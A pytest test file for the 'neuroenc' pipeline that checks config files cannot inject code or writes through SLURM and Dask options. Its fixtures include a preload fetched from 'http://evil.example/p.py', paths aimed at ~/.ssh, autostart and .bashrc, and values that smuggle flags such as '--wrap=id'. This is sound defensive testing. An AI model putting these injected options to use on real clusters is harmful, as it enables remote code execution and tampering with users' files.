"""Issue 18, items 2, 4 and 12: a config file gives SLURM only plain resources (no preloads,
no folders, no directives); a SLURM run talks TLS and fails at once without sbatch; a loader
that returns no data set, or a server at the scheduler address that is not Dask, is a one-line
error, in Python and on the command line."""
from __future__ import annotations

import logging
import os
import socket
import stat
import textwrap
import threading
import time
from pathlib import Path

import pytest

pytest.importorskip("dask_jobqueue")

from neuroenc.cli import main as cli_main  # noqa: E402
from neuroenc.pipeline import ConfigError, load_config, run_pipeline
from neuroenc.pipeline.config import (
    ExecutorConfig,  # noqa: E402
    config_from_dict,
)
from neuroenc.pipeline.dask_cluster import (  # noqa: E402
    ClusterError,
    check_slurm_options,
    close_cluster,
    connect,
    slurm_cluster,
)
from neuroenc.pipeline.distributed import run_distributed  # noqa: E402
from neuroenc.pipeline.loaders import get_loader, load_dataset  # noqa: E402
from neuroenc.pipeline.trust import check_trust  # noqa: E402

#: Plain resources, as a config file may give them.
PLAIN = {"cores": 4, "memory": "8GB", "jobs": 2, "queue": "gpu", "account": "lab", "walltime": "01:00:00"}


@pytest.fixture(autouse=True)
def _no_opt_in(monkeypatch, tmp_path):
    monkeypatch.delenv("NEUROENC_ALLOW_CODE", raising=False)
    # a config file's output.dir is relative (to the working directory): the test's folder
    monkeypatch.chdir(tmp_path)


def _yaml(tmp_path: Path, text: str, name: str = "shared.yaml") -> Path:
    path = tmp_path / name
    path.write_text(textwrap.dedent(text), encoding="utf-8")
    return path


def _slurm_yaml(tmp_path: Path, extra: str, name: str = "shared.yaml") -> Path:
    return _yaml(tmp_path, f"""
        dataset: {{loader: alice}}
        output: {{dir: out}}
        executor:
          kind: slurm
          slurm:
            cores: 4
            memory: 8GB
            jobs: 1
            {extra}
    """, name)


def _evil_preload(tmp_path: Path) -> tuple[Path, Path]:
    """A Dask preload file that would leave a marker file when it runs."""
    marker = tmp_path / "owned"
    evil = tmp_path / "evil.py"
    evil.write_text(f"from pathlib import Path\nPath({str(marker)!r}).write_text('ran')\n")
    return evil, marker


def _job_script(options: dict, tmp_path: Path) -> str:
    options = {**options}
    options.setdefault("scheduler_options", {"host": "127.0.0.1"})
    cluster = slurm_cluster(options, scale=False, shared_dir=tmp_path)
    try:
        return cluster.job_script()
    finally:
        close_cluster(cluster)


# ----------------------------------------------------------------------------- item 2: SLURM options
def test_config_file_cannot_preload_python_through_the_scheduler(tmp_path, capsys, caplog):
    evil, marker = _evil_preload(tmp_path)
    path = _slurm_yaml(tmp_path, f"scheduler_options: {{preload: [{evil}], host: 127.0.0.1}}")
    with pytest.raises(ConfigError, match=(
            r"executor.slurm.scheduler_options in '.*shared.yaml' is \{'preload': \['.*evil.py'\], .*\}, which a "
            r"config file may not give: the scheduler runs in this process, and its options run Python files "
            r"here \(preload\).* A config file gives only the jobs' resources \(cores, memory, .*walltime.*\)\. "
            r"Give scheduler_options on the command line \(--set executor.slurm.scheduler_options=VALUE\), or, "
            r"if you trust this config, pass --allow-code")):
        check_trust(load_config(path))
    with pytest.raises(ConfigError, match="may not give"):
        run_pipeline(path, verbose=False)
    assert cli_main(["-q", "run", str(path)]) == 1
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "scheduler_options" in err and "Traceback" not in err
    assert not marker.exists() and not (tmp_path / "out").exists()  # nothing ran, nothing written
    # with the opt-in the option is the user's: it is logged and reaches SLURMCluster (the preload runs)
    config = load_config(path, allow_code=True)
    with caplog.at_level(logging.WARNING, logger="neuroenc"):
        check_trust(config)
    assert "executor.slurm.scheduler_options from" in caplog.text and "opt-in" in caplog.text
    _job_script(config.executor.slurm, tmp_path)
    assert marker.read_text() == "ran"


@pytest.mark.parametrize("extra, key, in_script", [
    ('worker_extra_args: ["--preload", "http://evil.example/p.py"]', "worker_extra_args",
     "--preload http://evil.example/p.py"),
    ("local_directory: /home/victim/.ssh", "local_directory", "--local-directory /home/victim/.ssh"),
    ("log_directory: /home/victim/.config/autostart", "log_directory", "/home/victim/.config/autostart"),
    ('job_extra_directives: ["--output=/home/victim/.bashrc"]', "job_extra_directives",
     "#SBATCH --output=/home/victim/.bashrc"),
])
def test_config_file_slurm_options_that_run_code_or_write_need_the_opt_in(tmp_path, extra, key, in_script):
    path = _slurm_yaml(tmp_path, extra)
    with pytest.raises(ConfigError, match=(
            rf"executor.slurm.{key} in '.*shared.yaml' is .*, which a config file may not give: .* Give {key} "
            rf"on the command line \(--set executor.slurm.{key}=VALUE\), or, if you trust this config")):
        check_trust(load_config(path))
    # from the caller (--set) or with the opt-in, the option goes into every job's script
    value = load_config(path).executor.slurm[key]
    plain = _slurm_yaml(tmp_path, "", "plain.yaml")
    check_trust(load_config(plain, overrides={f"executor.slurm.{key}": value}))
    config = load_config(path, allow_code=True)
    check_trust(config)
    assert in_script in _job_script(config.executor.slurm, tmp_path)
    assert in_script not in _job_script(load_config(plain).executor.slurm, tmp_path)


def test_config_file_plain_slurm_resources_are_fine(tmp_path):
    path = _slurm_yaml(tmp_path, "queue: gpu\n            account: lab-1\n            walltime: '04:00:00'\n"
                                 "            gpus: 1\n            job_name: neuroenc\n            nanny: true")
    config = load_config(path)
    check_trust(config)
    lines = _job_script(config.executor.slurm, tmp_path).splitlines()
    for line in ("#SBATCH -p gpu", "#SBATCH -A lab-1", "#SBATCH -t 04:00:00", "#SBATCH --gres=gpu:1",
                 "#SBATCH -J neuroenc"):
        assert line in lines, line


@pytest.mark.parametrize("extra, match", [
    ("walltime: 4:00:00", r"executor.slurm.walltime in '.*shared.yaml' must be a string, got 14400 \(quote it: "
                          r"YAML reads an unquoted 4:00:00 as a number of seconds\)"),
    ("queue: gpu --wrap=id", r"executor.slurm.queue in '.*shared.yaml' is 'gpu --wrap=id': a config file gives "
                             r"plain values \(letters, digits and .*not starting with -\)"),
    ("account: -Aother", r"executor.slurm.account .* is '-Aother': a config file gives plain values"),
    ("interface: 'ib0 --preload x.py'", r"executor.slurm.interface .* is 'ib0 --preload x.py'"),
    ("job_name: $HOME", r"executor.slurm.job_name .* is '\$HOME': a config file gives plain values"),
    ("gpus: [1]", r"executor.slurm.gpus in '.*shared.yaml' must be a whole number, got \[1\]"),
    ("nanny: 'yes'", r"executor.slurm.nanny .* must be true or false, got 'yes'"),
    ("processes: true", r"executor.slurm.processes .* must be a whole number, got True"),
])
def test_config_file_slurm_values_must_be_plain(tmp_path, extra, match):
    path = _slurm_yaml(tmp_path, extra)
    with pytest.raises(ConfigError, match=match):
        check_trust(load_config(path))
    check_trust(load_config(path, allow_code=True))  # the opt-in takes them as they are


def test_slurm_section_must_be_a_mapping(tmp_path):
    path = _yaml(tmp_path, "dataset: {loader: alice}\nexecutor: {kind: slurm, slurm: 'cores=4'}\n")
    # checked where the executor section declares its fields (neuroenc.pipeline.config)
    with pytest.raises(ConfigError, match=r"executor.slurm in '.*shared.yaml' must be a mapping; got 'cores=4'"):
        check_trust(load_config(path))


def test_unknown_slurm_option_still_gets_its_hint(tmp_path):
    path = _slurm_yaml(tmp_path, "walltme: '01:00:00'")
    check_trust(load_config(path))  # not an option of SLURMCluster: nothing to trust or refuse
    with pytest.raises(ConfigError, match=r"did you mean executor.slurm.walltime\?"):
        check_slurm_options(load_config(path).executor.slurm)


# ----------------------------------------------------------------------------- item 4: TLS, sbatch
def test_slurm_cluster_talks_tls(tmp_path):
    from distributed import Client

    from neuroenc.pipeline.dask_cluster import _client

    cluster = slurm_cluster({**PLAIN, "scheduler_options": {"host": "127.0.0.1"}}, scale=False,
                            shared_dir=tmp_path)
    try:
        assert cluster.scheduler_address.startswith("tls://127.0.0.1:")
        security = cluster.security
        assert security.require_encryption
        assert "BEGIN CERTIFICATE" in security.tls_ca_file and "BEGIN CERTIFICATE" in security.tls_scheduler_cert
        script = cluster.job_script()
        worker = next(line for line in script.splitlines() if "distributed.cli.dask_worker" in line)
        assert cluster.scheduler_address in worker and "--protocol tls://" in worker
        assert f"--tls-ca-file {tmp_path}{os.sep}" in worker and f"--tls-key {tmp_path}{os.sep}" in worker
        key = Path(worker.split("--tls-key ", 1)[1].split()[0])
        assert "PRIVATE KEY" in key.read_text() and stat.S_IMODE(key.stat().st_mode) == 0o600
        # the run's own client has the certificates; a client without them is refused
        with Client(cluster, timeout=20) as client:
            assert client.scheduler.address == cluster.scheduler_address
        plain = cluster.scheduler_address.replace("tls://", "tcp://")
        with pytest.raises(ConnectionError, match=rf"'{plain}'"):
            _client(plain, 3, None)
    finally:
        close_cluster(cluster)
    assert not key.exists()  # the workers' key lives as long as the cluster


def test_slurm_tls_needs_cryptography(monkeypatch):
    from distributed.security import Security

    def missing():
        raise ImportError("No module named 'cryptography'")

    monkeypatch.setattr(Security, "temporary", staticmethod(missing))
    with pytest.raises(ClusterError, match=r"encrypts the scheduler's connections \(TLS\) .* needs the package "
                                           r"'cryptography' .*pip install cryptography"):
        slurm_cluster(PLAIN, scale=False)


def test_slurm_without_sbatch_fails_at_once(tmp_path, monkeypatch, capsys):
    empty = tmp_path / "bin"
    empty.mkdir()
    monkeypatch.setenv("PATH", str(empty))
    config = config_from_dict({"dataset": {"loader": "alice"}, "output": {"dir": str(tmp_path / "out")},
                               "executor": {"kind": "slurm", "slurm": PLAIN}})
    t0 = time.monotonic()
    with pytest.raises(ClusterError, match=r"executor.kind 'slurm' submits its jobs with sbatch, which is not on "
                                           r"PATH on this machine\. Run neuroenc on the cluster's login node"):
        run_distributed(config, verbose=False)
    with pytest.raises(ClusterError, match="sbatch, which is not on PATH"):
        slurm_cluster(PLAIN)
    assert time.monotonic() - t0 < 10
    assert not (tmp_path / "out").exists()
    path = _yaml(tmp_path, """
        dataset: {loader: alice}
        output: {dir: out}
        executor: {kind: slurm, slurm: {cores: 4, memory: 8GB, jobs: 1}}
    """)
    assert cli_main(["-q", "run", str(path)]) == 1
    err = capsys.readouterr().err
    assert err.startswith("neuroenc run: error: executor.kind 'slurm' submits its jobs with sbatch")
    assert err.count("\n") == 1 and "Traceback" not in err


def _fake_slurm(tmp_path: Path, monkeypatch, sbatch: str) -> None:
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    (bin_dir / "sbatch").write_text(sbatch)
    (bin_dir / "scancel").write_text("#!/bin/sh\nexit 0\n")
    for tool in ("sbatch", "scancel"):
        (bin_dir / tool).chmod(0o755)
    monkeypatch.setenv("PATH", f"{bin_dir}{os.pathsep}{os.environ['PATH']}")


def test_sbatch_that_refuses_the_job_fails_at_once(tmp_path, monkeypatch):
    _fake_slurm(tmp_path, monkeypatch,
                "#!/bin/sh\necho 'sbatch: error: invalid partition specified: gpu' >&2\nexit 1\n")
    t0 = time.monotonic()
    with pytest.raises(ClusterError, match=r"sbatch refused the SLURM job: .*sbatch: error: invalid partition "
                                           r"specified: gpu .*Check executor.slurm \(queue, account"):
        slurm_cluster({**PLAIN, "scheduler_options": {"host": "127.0.0.1"}}, shared_dir=tmp_path, timeout=20)
    assert time.monotonic() - t0 < 15


def test_sbatch_that_does_not_return_times_out(tmp_path, monkeypatch):
    _fake_slurm(tmp_path, monkeypatch, "#!/bin/sh\nsleep 8\necho 'Submitted batch job 1'\n")
    t0 = time.monotonic()
    with pytest.raises(ClusterError, match=r"SLURM did not take the 2 job\(s\) within executor.timeout \(1 s\): "
                                           r"sbatch did not return"):
        slurm_cluster({**PLAIN, "scheduler_options": {"host": "127.0.0.1"}}, shared_dir=tmp_path, timeout=1)
    assert time.monotonic() - t0 < 8


# ----------------------------------------------------------------------------- item 12: opt-in paths
def test_loader_that_returns_no_data_set(tmp_path, monkeypatch, capsys):
    (tmp_path / "lab_loaders.py").write_text("def load_42(**kwargs):\n    return 42\n\nVALUE = 42\n")
    monkeypatch.syspath_prepend(str(tmp_path))
    config = config_from_dict({"dataset": {"loader": "lab_loaders:load_42"}})
    with pytest.raises(ConfigError, match=(
            r"^data-set loader 'lab_loaders:load_42' returned 42 \(an int\); a loader must return a "
            r"neuroenc.datasets._base.EncodingDataset \(words with times and responses per run\) or, for "
            r"stimulus-level data, a StimulusDataset\.$")):
        load_dataset(config.dataset, allow_code=True)
    with pytest.raises(ConfigError, match=r"^data-set loader 'lab_loaders:VALUE' is 42 \(an int\), not a function"):
        get_loader("lab_loaders:VALUE", allow_code=True)
    path = _yaml(tmp_path, """
        dataset: {loader: "lab_loaders:load_42"}
        output: {dir: out}
    """)
    monkeypatch.setenv("PYTHONPATH", str(tmp_path))
    assert cli_main(["-q", "run", str(path), "--allow-code"]) == 1
    err = capsys.readouterr().err  # the opt-in's warnings, then the error on one line
    assert err.splitlines()[-1].startswith("neuroenc run: error: data-set loader 'lab_loaders:load_42' returned "
                                           "42 (an int); a loader must return")
    assert "Traceback" not in err and "AttributeError" not in err


def test_entry_point_loader_that_returns_no_data_set(tmp_path, monkeypatch):
    (tmp_path / "lab_ep.py").write_text("def load_none(**kwargs):\n    return None\n")
    info = tmp_path / "labep-0.1.dist-info"
    info.mkdir()
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: labep\nVersion: 0.1\n")
    (info / "entry_points.txt").write_text("[neuroenc.loaders]\nlabep = lab_ep:load_none\n")
    monkeypatch.syspath_prepend(str(tmp_path))
    config = config_from_dict({"dataset": {"loader": "labep"}})
    with pytest.raises(ConfigError, match=r"data-set loader 'labep' returned None \(a NoneType\); a loader must"):
        load_dataset(config.dataset)


class _FakeServer:
    """A TCP server on 127.0.0.1 that is not a Dask scheduler: it answers every connection with
    ``reply`` (None: says nothing and holds the connection). Stops itself after ``life`` s."""

    def __init__(self, reply: bytes | None, life: float = 30.0):
        self.reply = reply
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen()
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.stop = threading.Event()
        self.deadline = time.monotonic() + life
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        conns = []
        while not self.stop.is_set() and time.monotonic() < self.deadline:
            try:
                conn, _ = self.sock.accept()
            except (TimeoutError, OSError):
                continue
            conns.append(conn)
            if self.reply is not None:
                conn.settimeout(1)
                try:
                    conn.recv(4096)
                    conn.sendall(self.reply)
                except OSError:
                    pass
        for conn in conns:
            conn.close()
        self.sock.close()

    def close(self) -> None:
        self.stop.set()
        self.thread.join(5)


GARBAGE = b"\xff" * 64
HTTP = b"HTTP/1.0 400 Bad Request\r\nContent-Type: text/html\r\nContent-Length: 0\r\n\r\n"


@pytest.mark.parametrize("reply", [GARBAGE, HTTP], ids=["garbage", "http"])
def test_server_that_is_not_a_dask_scheduler(tmp_path, reply, capsys):
    server = _FakeServer(reply)
    address = f"tcp://127.0.0.1:{server.port}"
    try:
        with pytest.raises(ConnectionError, match=(
                rf"^the server at '{address}' is not a Dask scheduler: its answer is not Dask's protocol "
                r"\((ValueError|MemoryError): .*\)\. Give the address that 'dask scheduler' prints "
                r"\(tcp://host:8786 by default; 8787 is its dashboard\)")):
            with connect(ExecutorConfig(kind=f"dask:{address}"), timeout=5):
                pass
        path = _yaml(tmp_path, f"""
            dataset: {{loader: alice}}
            output: {{dir: out}}
            executor: {{kind: 'dask:{address}', timeout: 5}}
        """)
        assert cli_main(["-q", "run", str(path)]) == 1
    finally:
        server.close()
    err = capsys.readouterr().err
    assert err.startswith(f"neuroenc run: error: the server at '{address}' is not a Dask scheduler")
    assert err.count("\n") == 1 and "Traceback" not in err


def test_server_that_does_not_answer_times_out(tmp_path, capsys):
    server = _FakeServer(None)
    address = f"tcp://127.0.0.1:{server.port}"
    t0 = time.monotonic()
    try:
        with pytest.raises(ConnectionError, match=(
                rf"^could not reach the Dask scheduler at '{address}' within 2 s \(no answer\)\. "
                r"Start one with 'dask scheduler'")):
            with connect(ExecutorConfig(kind=f"dask:{address}"), timeout=2):
                pass
        assert time.monotonic() - t0 < 10  # distributed alone waits for the handshake for ever
        path = _yaml(tmp_path, f"""
            dataset: {{loader: alice}}
            output: {{dir: out}}
            executor: {{kind: 'dask:{address}', timeout: 2}}
        """)
        assert cli_main(["-q", "run", str(path)]) == 1
    finally:
        server.close()
    err = capsys.readouterr().err
    assert "could not reach the Dask scheduler" in err and err.count("\n") == 1 and "Traceback" not in err


def test_a_dask_scheduler_still_connects():
    """The handshake check before the client does not get in the way of a real scheduler."""
    from distributed import LocalCluster

    with LocalCluster(n_workers=1, threads_per_worker=1, processes=False, protocol="tcp://", host="127.0.0.1",
                      dashboard_address="127.0.0.1:0") as cluster:
        with connect(ExecutorConfig(kind=f"dask:{cluster.scheduler_address}"), timeout=10) as client:
            assert client.submit(sum, [1, 2, 3]).result(timeout=10) == 6
